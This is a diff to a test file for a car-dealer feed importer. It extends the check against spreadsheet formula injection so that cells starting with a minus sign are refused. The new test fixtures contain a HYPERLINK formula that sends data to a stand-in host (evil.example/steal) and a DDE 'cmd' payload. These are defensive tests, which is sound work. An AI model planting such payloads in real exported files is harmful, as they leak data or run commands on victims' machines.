@@ -149,7 +149,7 @@ describe("hostile feeds", () => {
 
 describe("formula cells in text columns", () => {
   const RULE =
-    "must not start with =, +, @, a tab or a carriage return, or with - unless a digit follows (spreadsheets run such text as a formula)";
+    "must not start with =, +, -, @, a tab or a carriage return unless it is a plain number like -5 or -5.25 (spreadsheets run such text as a formula)";
 
   it("are refused, naming row, column and rule, so none reaches the Meta CSV or the Google TSV", async () => {
     const feed = writeFeedFile(
@@ -177,12 +177,32 @@ describe("formula cells in text columns", () => {
     ]);
   });
 
-  it("a minus sign before a digit and formula characters later in the text are plain text", async () => {
+  it("a minus sign and a digit are refused too unless the cell is a plain number (a DDE payload)", async () => {
     const feed = writeFeedFile(
       feedText([
         {
           ...feedRecord(added, [`${server.origin}/photos/1.jpg`]),
-          Trim: "-2 Door",
+          Make: '-2+HYPERLINK("https://evil.example/steal")',
+          Model: "-2 Door",
+          Comments: "-1+cmd|' /C calc'!A0",
+        },
+        { ...feedRecord(makeVehicle(), [`${server.origin}/photos/1.jpg`]), Trim: " -1+2" },
+      ]),
+    );
+    expect(await refusal(feed)).toEqual([
+      `${feed}: row 2, column "Make" (make): "-2+HYPERLINK(\\"https://evil.example/steal\\")" ${RULE}`,
+      `${feed}: row 2, column "Model" (model): "-2 Door" ${RULE}`,
+      `${feed}: row 2, column "Comments" (description): "-1+cmd|' /C calc'!A0" ${RULE}`,
+      `${feed}: row 3, column "Trim" (trim): "-1+2" ${RULE}`,
+    ]);
+  });
+
+  it("a plain number and formula characters later in the text are plain text", async () => {
+    const feed = writeFeedFile(
+      feedText([
+        {
+          ...feedRecord(added, [`${server.origin}/photos/1.jpg`]),
+          Trim: "-5",
           Options: "Sunroof|Heated seats = comfort",
           Comments: "Priced to sell: $500 under book, +tax and fees, @ our lot today.",
         },
@@ -190,7 +210,7 @@ describe("formula cells in text columns", () => {
     );
     await runImport({ feed, contentDir: content.dir, today: "2026-11-23", currentYear: 2026, ...network() });
     const vehicle = content.vehicle("2020-toyota-highlander-t2402.json");
-    expect(vehicle).toMatchObject({ trim: "-2 Door", features: ["Sunroof", "Heated seats = comfort"] });
+    expect(vehicle).toMatchObject({ trim: "-5", features: ["Sunroof", "Heated seats = comfort"] });
     before = content.snapshot();
     fs.rmSync(path.join(content.dir, ".import", "state.json"));
   });
